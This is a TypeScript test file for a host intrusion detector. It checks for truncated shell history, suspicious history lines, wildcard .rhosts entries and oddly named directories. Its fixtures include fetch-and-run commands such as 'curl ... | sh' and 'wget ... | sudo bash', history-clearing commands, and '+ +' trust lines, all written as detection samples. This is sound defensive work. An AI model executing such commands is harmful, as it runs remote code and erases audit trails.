import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { chmodSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, truncateSync, unlinkSync, writeFileSync, appendFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { checkHostsentryConfig, type HostsentryConfig } from '../src/config.js';
import { emptyHistory, type History } from '../src/core/history.js';
import {
  MAX_HOME_FINDINGS,
  SUSPICIOUS_PATTERNS,
  checkHistoryFiles,
  checkOddDirnames,
  checkTrustFiles,
  matchContext,
  oddDirnameReason,
  suspiciousMatches,
  trustLineProblem,
  type HistoryFileSnapshot,
  type HomesConfig,
} from '../src/core/homes.js';
import { formatAnomaly, type Anomaly } from '../src/core/modules.js';
import { isCheckableHome, parsePasswdHomes, runHomeChecks, walkHome, MAX_TAIL_BYTES, type Skipped } from '../src/inputs/homes.js';

const ROOT = resolve(fileURLToPath(new URL('.', import.meta.url)), '..', '..', '..');
const SHIPPED = checkHostsentryConfig(join(ROOT, 'etc', 'hostsentry.yaml'));
const T = Date.UTC(2026, 10, 21, 12, 0);
const CTX = matchContext(SHIPPED);
const enc = new TextEncoder();
// eslint-disable-next-line no-control-regex
const CONTROL = /[\x00-\x1f\x7f-\x9f]/;

type Mods = HostsentryConfig['modules'];
function config(over: { [K in keyof Mods]?: Partial<Mods[K]> } = {}): HostsentryConfig {
  const m = SHIPPED.modules;
  return {
    ...SHIPPED,
    modules: {
      ...m,
      history_truncated: { ...m.history_truncated, ...over.history_truncated },
      history_suspicious: { ...m.history_suspicious, ...over.history_suspicious },
      rhosts_check: { ...m.rhosts_check, ...over.rhosts_check },
      odd_dirnames: { ...m.odd_dirnames, ...over.odd_dirnames },
    },
  };
}
const CFG: HomesConfig = config();

function fileSnap(size: number, text?: string, over: Partial<HistoryFileSnapshot> = {}): HistoryFileSnapshot {
  const tail = text === undefined ? undefined : enc.encode(text);
  return { user: 'alice', home: '/home/alice', file: '.bash_history', kind: 'file', size, tail, tailOffset: tail === undefined ? undefined : size - tail.length, ...over };
}

function noControl(anomalies: readonly Anomaly[]): void {
  for (const a of anomalies) {
    assert.doesNotMatch(a.evidence, CONTROL, a.evidence);
    assert.doesNotMatch(formatAnomaly(a), CONTROL);
  }
}

// ------------------------------------------------------------------ patterns

test('every suspicious pattern matches its samples, and its near-misses match no pattern', () => {
  for (const p of SUSPICIOUS_PATTERNS) {
    assert.ok(p.samples.length > 0 && p.nearMisses.length > 0, `${p.name} has samples and near-misses`);
    for (const s of p.samples) assert.ok(suspiciousMatches(s, CTX).includes(p.name), `${p.name} should match ${JSON.stringify(s)} (got ${suspiciousMatches(s, CTX).join(',')})`);
    for (const s of p.nearMisses) assert.deepEqual(suspiciousMatches(s, CTX), [], `${JSON.stringify(s)} is a near-miss of ${p.name}`);
  }
  const names = SUSPICIOUS_PATTERNS.map((p) => p.name);
  assert.equal(new Set(names).size, names.length, 'names are unique');
});

test('ordinary shell history matches nothing; zsh extended and bash timestamp lines are understood', () => {
  for (const line of ['ls -la', 'git commit -m "fix: history -c handling"', 'vim ~/.bashrc', 'sudo apt-get update && sudo apt-get upgrade', 'ssh host', 'cat /var/log/syslog | less', '#1700000000', '']) {
    assert.deepEqual(suspiciousMatches(line, CTX), [], line);
  }
  assert.deepEqual(suspiciousMatches(': 1700000000:0;history -c', CTX), ['history-clear']);
  assert.deepEqual(suspiciousMatches('#1700000000 history -c', CTX), []);
  // A configured history file name counts as a history file.
  const ctx = matchContext(config({}));
  const custom = matchContext({ ...CFG, home_checks: { history_files: ['.local/share/myhist'] } });
  assert.deepEqual(suspiciousMatches('rm myhist', ctx), []);
  assert.deepEqual(suspiciousMatches('rm myhist', custom), ['log-wipe']);
});

test('matching is linear: adversarial lines are judged fast', () => {
  const evil = [
    'curl '.repeat(20000),
    '('.repeat(50000),
    '$('.repeat(30000) + 'curl x',
    `${'a'.repeat(60000)}|`.repeat(2),
    `${'"'.repeat(40000)}history -c`,
    `sudo ${'-u x '.repeat(10000)}history -c`,
    `${'bash -c '.repeat(10000)}curl x | sh`,
    `nc -${'v'.repeat(60000)}`,
    `rm ${'/var/log/'.repeat(8000)}x`,
  ];
  const t0 = performance.now();
  for (const l of evil) suspiciousMatches(l, CTX);
  const tail = enc.encode(`${'x|'.repeat(1000)}curl a b c d e f\n`.repeat(Math.floor(MAX_TAIL_BYTES / 2020)));
  checkHistoryFiles(emptyHistory(), [fileSnap(tail.length, undefined, { tail, tailOffset: 0 })], CFG, T);
  const ms = performance.now() - t0;
  assert.ok(ms < 3000, `took ${ms} ms`);
  // Nesting still resolves: the innermost command is seen.
  assert.deepEqual(suspiciousMatches(`${'bash -c '.repeat(100)}history -c`, CTX), ['history-clear']);
});

// ------------------------------------------------------------------ HistoryTruncated

test('HistoryTruncated: first sight records, shrink and emptying report once each, growth is quiet', () => {
  let h: History = emptyHistory();
  let r = checkHistoryFiles(h, [fileSnap(5000)], CFG, T);
  assert.deepEqual(r.anomalies, []);
  assert.equal(r.history.users.alice?.historySizes['.bash_history']?.size, 5000);
  h = r.history;
  r = checkHistoryFiles(h, [fileSnap(5000)], CFG, T + 1);
  assert.deepEqual(r.anomalies, []);
  assert.equal(r.history, h, 'an unchanged home leaves the history object as it was');
  r = checkHistoryFiles(h, [fileSnap(1200)], CFG, T + 2);
  assert.equal(r.anomalies.length, 1);
  const a = r.anomalies[0]!;
  assert.equal(a.module, 'HistoryTruncated');
  assert.equal(a.severity, 'high');
  assert.equal(a.user, 'alice');
  assert.equal(a.tty, '');
  assert.equal(a.source, '');
  assert.equal(a.time, T + 2);
  assert.equal(a.record, undefined);
  assert.match(a.evidence, /"\/home\/alice\/\.bash_history" shrank from 5000 to 1200 bytes/);
  h = r.history;
  assert.deepEqual(checkHistoryFiles(h, [fileSnap(1200)], CFG, T + 3).anomalies, [], 'not repeated');
  h = checkHistoryFiles(h, [fileSnap(4000)], CFG, T + 4).history;
  r = checkHistoryFiles(h, [fileSnap(3000)], CFG, T + 5);
  assert.match(r.anomalies[0]?.evidence ?? '', /shrank from 4000 to 3000/, 'a later shrink is a new finding');
  r = checkHistoryFiles(r.history, [fileSnap(0)], CFG, T + 6);
  assert.match(r.anomalies[0]?.evidence ?? '', /was emptied \(was 3000 bytes\)/);
  assert.equal(formatAnomaly(r.anomalies[0]!).split('\n').length, 1);
  assert.match(formatAnomaly(r.anomalies[0]!), /^attackalert: hostsentry: HistoryTruncated: user alice at 2026-11-21T12:00:00Z: /);
});

test('HistoryTruncated: deletion reports once; a missing file never seen is quiet', () => {
  let r = checkHistoryFiles(emptyHistory(), [fileSnap(0, undefined, { kind: 'missing' })], CFG, T);
  assert.deepEqual(r.anomalies, []);
  assert.equal(r.history.users.alice, undefined, 'nothing to store: no profile is created');
  r = checkHistoryFiles(emptyHistory(), [fileSnap(800)], CFG, T);
  r = checkHistoryFiles(r.history, [fileSnap(0, undefined, { kind: 'missing' })], CFG, T + 1);
  assert.equal(r.anomalies.length, 1);
  assert.match(r.anomalies[0]!.evidence, /was deleted \(was 800 bytes\)/);
  assert.equal(r.history.users.alice?.historySizes['.bash_history'], undefined);
  assert.deepEqual(checkHistoryFiles(r.history, [fileSnap(0, undefined, { kind: 'missing' })], CFG, T + 2).anomalies, []);
});

test('HistoryTruncated: a link to /dev/null or a fifo is reported once while it lasts, again when it comes back', () => {
  const link = fileSnap(9, undefined, { kind: 'symlink', linkTarget: '/dev/null' });
  let r = checkHistoryFiles(emptyHistory(), [fileSnap(300)], CFG, T);
  const input = structuredClone(r.history);
  const before = r.history;
  r = checkHistoryFiles(before, [link], CFG, T + 1);
  assert.deepEqual(before, input, 'the input history is not changed');
  assert.equal(r.anomalies.length, 1);
  assert.match(r.anomalies[0]!.evidence, /is a symbolic link to "\/dev\/null", so the shell history is thrown away \(was a 300-byte file\)/);
  r = checkHistoryFiles(r.history, [link], CFG, T + 2);
  assert.deepEqual(r.anomalies, [], 'not repeated');
  r = checkHistoryFiles(r.history, [fileSnap(10)], CFG, T + 3);
  assert.deepEqual(r.anomalies, [], 'back to a file: first sight of its size');
  r = checkHistoryFiles(r.history, [link], CFG, T + 4);
  assert.equal(r.anomalies.length, 1, 'linked again: reported again');
  const elsewhere = checkHistoryFiles(emptyHistory(), [fileSnap(9, undefined, { kind: 'symlink', linkTarget: '/tmp/h\x1bx' })], CFG, T);
  assert.match(elsewhere.anomalies[0]!.evidence, /link to "\/tmp\/h\\x1bx", so the shell history is not kept in the home/);
  noControl(elsewhere.anomalies);
  const fifo = checkHistoryFiles(emptyHistory(), [fileSnap(0, undefined, { kind: 'other', type: 'fifo' })], CFG, T);
  assert.match(fifo.anomalies[0]!.evidence, /is a fifo, not a regular file/);
});

test('HistoryTruncated off: sizes are still learned, nothing is reported; both off: nothing at all', () => {
  const c = config({ history_truncated: { enabled: false } });
  let r = checkHistoryFiles(emptyHistory(), [fileSnap(100)], c, T);
  r = checkHistoryFiles(r.history, [fileSnap(10)], c, T + 1);
  assert.deepEqual(r.anomalies, []);
  assert.equal(r.history.users.alice?.historySizes['.bash_history']?.size, 10);
  const off = config({ history_truncated: { enabled: false }, history_suspicious: { enabled: false } });
  const h = emptyHistory();
  assert.equal(checkHistoryFiles(h, [fileSnap(100, 'history -c\n')], off, T).history, h);
});

// ------------------------------------------------------------------ HistorySuspicious

test('HistorySuspicious: reported once per line; only new lines are judged; severity from config', () => {
  const text1 = 'ls\nunset HISTFILE\ncurl -s http://198.51.100.7/x | sh\nls\n';
  let r = checkHistoryFiles(emptyHistory(), [fileSnap(text1.length, text1)], CFG, T);
  assert.equal(r.anomalies.length, 1);
  const a = r.anomalies[0]!;
  assert.equal(a.module, 'HistorySuspicious');
  assert.match(a.evidence, /has 2 suspicious lines: unset-history-var: "unset HISTFILE"; download-pipe-shell: "curl -s http:\/\/198\.51\.100\.7\/x \| sh"/);
  r = checkHistoryFiles(r.history, [fileSnap(text1.length, text1)], CFG, T + 1);
  assert.deepEqual(r.anomalies, [], 'same file: nothing new');
  const text2 = `${text1}pwd\nhistory -c\n`;
  r = checkHistoryFiles(r.history, [fileSnap(text2.length, text2)], CFG, T + 2);
  assert.equal(r.anomalies.length, 1);
  assert.match(r.anomalies[0]!.evidence, /has 1 suspicious line: history-clear: "history -c"$/);
  // Rewritten smaller but keeping old lines: the shrink is reported, the old lines are not.
  const text3 = 'unset HISTFILE\nhistory -c\n';
  r = checkHistoryFiles(r.history, [fileSnap(text3.length, text3)], CFG, T + 3);
  assert.deepEqual(r.anomalies.map((x) => x.module), ['HistoryTruncated']);
  // The same command typed again later (a new line at a new place) is the same line: not repeated.
  const text4 = `${text3}history -c\nset +o history\n`;
  r = checkHistoryFiles(r.history, [fileSnap(text4.length, text4)], CFG, T + 4);
  assert.deepEqual(r.anomalies.map((x) => x.evidence.replace(/^.*: /, '')), ['"set +o history"']);
  const low = checkHistoryFiles(emptyHistory(), [fileSnap(11, 'history -c\n')], config({ history_suspicious: { severity: 'low' } }), T);
  assert.equal(low.anomalies[0]!.severity, 'low');
  assert.match(formatAnomaly(low.anomalies[0]!), /^securityalert: /);
  assert.deepEqual(checkHistoryFiles(emptyHistory(), [fileSnap(11, 'history -c\n')], config({ history_suspicious: { enabled: false } }), T).anomalies, []);
});

test('HistorySuspicious: a tail starting mid-file skips its partial first line; control characters are escaped', () => {
  const tail = 'ry -c\nls\nhistory -c \x1b[2J\x07\n';
  const r = checkHistoryFiles(emptyHistory(), [fileSnap(1000 + tail.length, tail)], CFG, T);
  assert.equal(r.anomalies.length, 1);
  assert.match(r.anomalies[0]!.evidence, /1 suspicious line: history-clear: "history -c \\x1b\[2J\\x07"/);
  noControl(r.anomalies);
  // Many suspicious lines: the evidence names five and counts the rest.
  const many = Array.from({ length: 9 }, (_v, i) => `history -d ${i}`).join('\n');
  const m = checkHistoryFiles(emptyHistory(), [fileSnap(many.length, many)], CFG, T);
  assert.match(m.anomalies[0]!.evidence, /has 9 suspicious lines: .*\(and 4 more\)$/);
});

test('home findings stay bounded', () => {
  const lines = Array.from({ length: MAX_HOME_FINDINGS + 100 }, (_v, i) => `history -d ${i}`).join('\n');
  const r = checkHistoryFiles(emptyHistory(), [fileSnap(lines.length, lines)], CFG, T);
  assert.equal(r.history.users.alice?.homeFindings?.length, MAX_HOME_FINDINGS);
  // A damaged store (homeFindings not a list) counts as nothing remembered, not as a crash.
  const damaged = structuredClone(r.history);
  Object.assign(damaged.users.alice!, { homeFindings: 'garbage' });
  const again = checkOddDirnames(damaged, [{ user: 'alice', home: '/home/alice', dirs: ['...'], complete: true }], CFG, T);
  assert.equal(again.anomalies.length, 1);
  assert.equal(again.history.users.alice?.homeFindings?.length, 1);
});

// ------------------------------------------------------------------ RhostsCheck

test('trust-file lines: wildcards are problems, deny lines, comments and plain pairs are not', () => {
  const cases: Array<[string, string | undefined]> = [
    ['+', 'any host as the same user'],
    ['+ +', 'any host as any user'],
    ['  +\t+  ', 'any host as any user'],
    ['+ bob', 'any host as user bob'],
    ['trusted.example.org +', 'host trusted.example.org as any user'],
    ['+@admins', 'any host of netgroup admins as the same user'],
    ['host +@ops', 'host host as any user of netgroup ops'],
    ['+ -bob', undefined],
    ['-evil.example.org', undefined],
    ['-@badhosts', undefined],
    ['host -bob', undefined],
    ['trusted.example.org alice', undefined],
    ['trusted.example.org', undefined],
    ['# + +', undefined],
    ['', undefined],
  ];
  for (const [line, want] of cases) assert.equal(trustLineProblem(line), want, JSON.stringify(line));
});

test('RhostsCheck: reported once per line while it stays; removed and re-added is new; system files are root\'s', () => {
  const rh = (lines: string[]) => [{ path: '/home/alice/.rhosts', user: 'alice', lines }];
  let r = checkTrustFiles(emptyHistory(), rh(['# trusted', 'ws1.example.org alice', '+ +', 'ws2 +']), CFG, T);
  assert.equal(r.anomalies.length, 1);
  const a = r.anomalies[0]!;
  assert.equal(a.module, 'RhostsCheck');
  assert.equal(a.user, 'alice');
  assert.match(a.evidence, /^trust file "\/home\/alice\/\.rhosts" has 2 wildcard entries: line 3 "\+ \+" trusts any host as any user; line 4 "ws2 \+" trusts host ws2 as any user$/);
  r = checkTrustFiles(r.history, rh(['+ +', 'ws2 +']), CFG, T + 1);
  assert.deepEqual(r.anomalies, []);
  r = checkTrustFiles(r.history, rh(['ws2 +']), CFG, T + 2);
  assert.deepEqual(r.anomalies, [], 'a line removed is not an anomaly');
  r = checkTrustFiles(r.history, rh(['ws2 +', '+ +']), CFG, T + 3);
  assert.match(r.anomalies[0]?.evidence ?? '', /1 wildcard entry: line 2 "\+ \+"/);
  r = checkTrustFiles(r.history, rh([]), CFG, T + 4);
  r = checkTrustFiles(r.history, rh(['ws2 +']), CFG, T + 5);
  assert.equal(r.anomalies.length, 1, 'the file came back with its line');
  const sys = checkTrustFiles(emptyHistory(), [{ path: '/etc/hosts.equiv', user: '', lines: ['+', '+ \x1b[31mevil'] }], CFG, T);
  assert.equal(sys.anomalies[0]!.user, 'root');
  assert.match(sys.anomalies[0]!.evidence, /^system-wide trust file "\/etc\/hosts\.equiv" has 2 wildcard entries/);
  assert.ok(sys.history.users.root?.homeFindings?.length === 2);
  noControl(sys.anomalies);
  assert.deepEqual(checkTrustFiles(emptyHistory(), rh(['+ +']), config({ rhosts_check: { enabled: false } }), T).anomalies, []);
});

// ------------------------------------------------------------------ OddDirnames

test('odd directory names', () => {
  const cases: Array<[string, string | undefined]> = [
    ['...', 'only dots'],
    ['....', 'only dots'],
    ['. ', 'only dots and spaces'],
    ['.. ', 'only dots and spaces'],
    [' ..', 'only dots and spaces'],
    [' . ', 'only dots and spaces'],
    ['..\u00a0', 'only dots and spaces'],
    [' ', 'only spaces'],
    ['   ', 'only spaces'],
    ['\u3000', 'only spaces'],
    ['a\x1bb', 'control characters'],
    ['tab\there', 'control characters'],
    ['new\nline', 'control characters'],
    ['c1\u009bx', 'control characters'],
    ['evil\u202etxt.sh', 'invisible or bidirectional-override characters'],
    ['zero\u200bwidth', 'invisible or bidirectional-override characters'],
    ['.config', undefined],
    ['..foo', undefined],
    ['.. foo', undefined],
    ['My Documents', undefined],
    ['..', undefined],
    ['.', undefined],
    ['.cache', undefined],
    ['été', undefined],
  ];
  for (const [name, want] of cases) assert.equal(oddDirnameReason(name), want, JSON.stringify(name));
});

test('OddDirnames: once per directory, escaped; an incomplete walk keeps findings, a complete one forgets', () => {
  const walk = (dirs: string[], complete = true) => [{ user: 'bob', home: '/home/bob', dirs, complete }];
  let r = checkOddDirnames(emptyHistory(), walk(['...', 'src', 'a/\x1b[31mred', 'x/. ']), CFG, T);
  assert.equal(r.anomalies.length, 1);
  const a = r.anomalies[0]!;
  assert.equal(a.module, 'OddDirnames');
  assert.equal(a.severity, 'medium');
  assert.equal(a.evidence, '"/home/bob" has 3 oddly named directories: "..." (only dots); "a/\\x1b[31mred" (control characters); "x/. " (only dots and spaces)');
  noControl(r.anomalies);
  assert.doesNotMatch(JSON.stringify(r.history), /\\u001b/, 'the stored keys are escaped too');
  r = checkOddDirnames(r.history, walk(['...', 'a/\x1b[31mred', 'x/. ']), CFG, T + 1);
  assert.deepEqual(r.anomalies, []);
  r = checkOddDirnames(r.history, walk([], false), CFG, T + 2);
  r = checkOddDirnames(r.history, walk(['...']), CFG, T + 3);
  assert.deepEqual(r.anomalies, [], 'the incomplete walk kept "..."');
  r = checkOddDirnames(r.history, walk([]), CFG, T + 4);
  r = checkOddDirnames(r.history, walk(['...']), CFG, T + 5);
  assert.equal(r.anomalies.length, 1, 'gone, then back: reported again');
  assert.deepEqual(checkOddDirnames(emptyHistory(), walk(['...']), config({ odd_dirnames: { enabled: false } }), T).anomalies, []);
  const clean = emptyHistory();
  assert.equal(checkOddDirnames(clean, walk(['src', '.cache']), CFG, T).history, clean, 'a clean home creates no profile');
});

// ------------------------------------------------------------------ adapter, on real directories

function tempHome(): string {
  return mkdtempSync(join(tmpdir(), 'hs-home-'));
}

test('passwd homes: parsed, and placeholders are not homes', () => {
  const list = parsePasswdHomes('root:x:0:0:root:/root:/bin/bash\n_apt:x:42:65534::/nonexistent:/usr/sbin/nologin\nbroken line\nalice:x:1000:1000:A:/home/alice:/bin/bash\n');
  assert.deepEqual(list, [
    { user: 'root', uid: 0, home: '/root' },
    { user: '_apt', uid: 42, home: '/nonexistent' },
    { user: 'alice', uid: 1000, home: '/home/alice' },
  ]);
  assert.deepEqual(list.filter((u) => isCheckableHome(u.home)).map((u) => u.user), ['root', 'alice']);
  for (const h of ['/', '/nonexistent', '/bin', '/usr/sbin', '/dev/shm', 'relative', '']) assert.equal(isCheckableHome(h), false, h);
});

test('runHomeChecks on a real home: history shrink, link to /dev/null, fifo, suspicious lines, rhosts', (t) => {
  const home = tempHome();
  t.after(() => rmSync(home, { recursive: true, force: true }));
  const trustSys = join(home, 'hosts.equiv');
  writeFileSync(trustSys, 'trusted.example.org\n');
  const cfg = config({ rhosts_check: { system_files: [trustSys] } });
  const users = [{ user: 'alice', home }];
  const hist = join(home, '.bash_history');
  writeFileSync(hist, 'ls\ncd /tmp\nwget -qO- http://198.51.100.7/i | sudo bash\n');
  writeFileSync(join(home, '.rhosts'), '# ok\nws1 alice\n+ +\n');
  let r = runHomeChecks(emptyHistory(), users, cfg, T);
  assert.deepEqual(r.skipped, []);
  assert.deepEqual(r.anomalies.map((a) => a.module).sort(), ['HistorySuspicious', 'RhostsCheck']);
  assert.match(r.anomalies.find((a) => a.module === 'HistorySuspicious')!.evidence, /download-pipe-shell/);
  // Nothing changed: nothing reported.
  r = runHomeChecks(r.history, users, cfg, T + 1);
  assert.deepEqual(r.anomalies, []);
  appendFileSync(hist, 'make\nhistory -c\n');
  r = runHomeChecks(r.history, users, cfg, T + 2);
  assert.deepEqual(r.anomalies.map((a) => a.evidence.replace(/^.*: /, '')), ['"history -c"']);
  truncateSync(hist, 3);
  r = runHomeChecks(r.history, users, cfg, T + 3);
  assert.deepEqual(r.anomalies.map((a) => a.module), ['HistoryTruncated']);
  assert.match(r.anomalies[0]!.evidence, /shrank from \d+ to 3 bytes/);
  unlinkSync(hist);
  symlinkSync('/dev/null', hist);
  r = runHomeChecks(r.history, users, cfg, T + 4);
  assert.equal(r.anomalies.length, 1);
  assert.match(r.anomalies[0]!.evidence, /is a symbolic link to "\/dev\/null"/);
  // A fifo must be judged without opening it for reading (which would block).
  execFileSync('mkfifo', [join(home, '.zsh_history')]);
  r = runHomeChecks(r.history, users, cfg, T + 5);
  assert.equal(r.anomalies.length, 1);
  assert.match(r.anomalies[0]!.evidence, /\.zsh_history" is a fifo, not a regular file/);
  writeFileSync(trustSys, '+\n');
  r = runHomeChecks(r.history, users, cfg, T + 6);
  assert.equal(r.anomalies.length, 1);
  assert.equal(r.anomalies[0]!.user, 'root');
  assert.equal(runHomeChecks(r.history, users, cfg, T + 7).anomalies.length, 0);
});

test('runHomeChecks: links are never followed, big files are read from their tail', (t) => {
  const home = tempHome();
  const outside = tempHome();
  t.after(() => {
    rmSync(home, { recursive: true, force: true });
    rmSync(outside, { recursive: true, force: true });
  });
  writeFileSync(join(outside, 'rhosts'), '+ +\n');
  writeFileSync(join(outside, 'hist'), 'history -c\n');
  symlinkSync(join(outside, 'rhosts'), join(home, '.rhosts'));
  symlinkSync(outside, join(home, '.config'));
  const big = `${'echo filler line\n'.repeat(Math.ceil((MAX_TAIL_BYTES * 1.5) / 17))}unset HISTFILE\n`;
  writeFileSync(join(home, '.history'), big);
  const cfg = config({ rhosts_check: { system_files: [] } });
  const c2: HostsentryConfig = { ...cfg, home_checks: { ...cfg.home_checks, history_files: ['.history', '.config/hist'] } };
  const r = runHomeChecks(emptyHistory(), [{ user: 'carol', home }], c2, T);
  assert.deepEqual(r.anomalies.map((a) => a.module), ['HistorySuspicious']);
  assert.match(r.anomalies[0]!.evidence, /\.history" has 1 suspicious line: unset-history-var/);
  const reasons = r.skipped.map((s) => `${s.path}: ${s.reason}`);
  assert.ok(reasons.some((s) => s.endsWith('.rhosts: is a symbolic link, not followed')), reasons.join('\n'));
  assert.ok(reasons.some((s) => /\.config\/hist: .*\.config is a symbolic link, not followed$/.test(s)), reasons.join('\n'));
  assert.equal(r.history.users.carol?.historySizes['.history']?.size, big.length);
});

test('runHomeChecks: users without a real home are passed over; a file as home is reported', (t) => {
  const home = tempHome();
  t.after(() => rmSync(home, { recursive: true, force: true }));
  writeFileSync(join(home, 'plain'), 'x');
  const r = runHomeChecks(
    emptyHistory(),
    [
      { user: 'nobody', home: '/nonexistent' },
      { user: 'gone', home: join(home, 'missing') },
      { user: 'odd', home: join(home, 'plain') },
    ],
    config({ rhosts_check: { system_files: [] } }),
    T,
  );
  assert.deepEqual(r.anomalies, []);
  assert.deepEqual(r.skipped, [{ path: join(home, 'plain'), reason: 'not a directory' }]);
});

test('walkHome: finds "...", ". " and an escape-sequence name, to max_depth only, not through links, names as bytes', (t) => {
  const home = tempHome();
  const outside = tempHome();
  t.after(() => {
    rmSync(home, { recursive: true, force: true });
    rmSync(outside, { recursive: true, force: true });
  });
  mkdirSync(join(home, '...'));
  mkdirSync(join(home, 'work', '. '), { recursive: true });
  mkdirSync(join(home, 'work', '\x1b[31mred'), { recursive: true });
  mkdirSync(join(home, 'a', 'b', 'c', '...'), { recursive: true }); // depth 4: below max_depth 3
  mkdirSync(join(home, 'a', 'b', ' '), { recursive: true }); // depth 3: found
  writeFileSync(join(home, 'work', '...'), 'a file, not a directory');
  mkdirSync(join(outside, '...'));
  symlinkSync(outside, join(home, 'link'));
  // A name that is not UTF-8 must still be descended into.
  const latin = Buffer.concat([Buffer.from(home), Buffer.from('/caf\xe9', 'latin1')]);
  mkdirSync(latin);
  mkdirSync(Buffer.concat([latin, Buffer.from('/...')]));
  const skipped: Skipped[] = [];
  const w = walkHome('dave', home, 3, skipped);
  assert.deepEqual(skipped, []);
  assert.equal(w.complete, true);
  assert.deepEqual([...w.dirs].sort(), ['...', 'a/b/ ', 'caf\ufffd/...', 'work/. ', 'work/\x1b[31mred'].sort());
  const deeper = walkHome('dave', home, 4, []);
  assert.ok(deeper.dirs.includes('a/b/c/...'));
  const r = runHomeChecks(emptyHistory(), [{ user: 'dave', home }], config({ rhosts_check: { system_files: [] } }), T);
  assert.equal(r.anomalies.length, 1);
  assert.equal(r.anomalies[0]!.module, 'OddDirnames');
  assert.match(r.anomalies[0]!.evidence, /has 5 oddly named directories/);
  assert.match(r.anomalies[0]!.evidence, /"work\/\\x1b\[31mred" \(control characters\)/);
  noControl(r.anomalies);
  assert.deepEqual(runHomeChecks(r.history, [{ user: 'dave', home }], config({ rhosts_check: { system_files: [] } }), T + 1).anomalies, []);
});

test('walkHome: the entry cap stops the walk and says so', (t) => {
  const home = tempHome();
  t.after(() => rmSync(home, { recursive: true, force: true }));
  for (let i = 0; i < 10; i++) mkdirSync(join(home, `d${i}`));
  const skipped: Skipped[] = [];
  const w = walkHome('erin', home, 3, skipped, 5);
  assert.equal(w.complete, false);
  assert.deepEqual(skipped, [{ path: home, reason: 'walk stopped after 5 entries' }]);
});

test('walkHome: an unreadable directory is skipped and counted, not thrown', (t) => {
  const home = tempHome();
  t.after(() => rmSync(home, { recursive: true, force: true }));
  mkdirSync(join(home, 'locked', '...'), { recursive: true });
  mkdirSync(join(home, 'open', '...'), { recursive: true });
  chmodSync(join(home, 'locked'), 0o000);
  chmodSync(home, 0o755);
  const uid = process.getuid?.();
  if (uid === 0) {
    // Root reads any directory: run the walk as nobody in a child process instead.
    const mod = new URL('../src/inputs/homes.js', import.meta.url).href;
    const script = `import(${JSON.stringify(mod)}).then((m) => { const s = []; const w = m.walkHome('u', ${JSON.stringify(home)}, 3, s); process.stdout.write(JSON.stringify({ w, s })); });`;
    let out: string;
    try {
      out = execFileSync(process.execPath, ['--input-type=module', '-e', script], { uid: 65534, gid: 65534, encoding: 'utf8' });
    } catch (e) {
      t.skip(`needs a process running as nobody: ${e instanceof Error ? e.message.split('\n')[0] : String(e)}`);
      return;
    }
    const { w, s } = JSON.parse(out) as { w: { dirs: string[]; complete: boolean }; s: Skipped[] };
    assert.deepEqual(w.dirs, ['open/...']);
    assert.equal(w.complete, false);
    assert.deepEqual(s, [{ path: join(home, 'locked'), reason: 'cannot read directory: EACCES' }]);
  } else {
    const s: Skipped[] = [];
    const w = walkHome('u', home, 3, s);
    assert.deepEqual(w.dirs, ['open/...']);
    assert.equal(w.complete, false);
    assert.deepEqual(s, [{ path: join(home, 'locked'), reason: 'cannot read directory: EACCES' }]);
  }
});
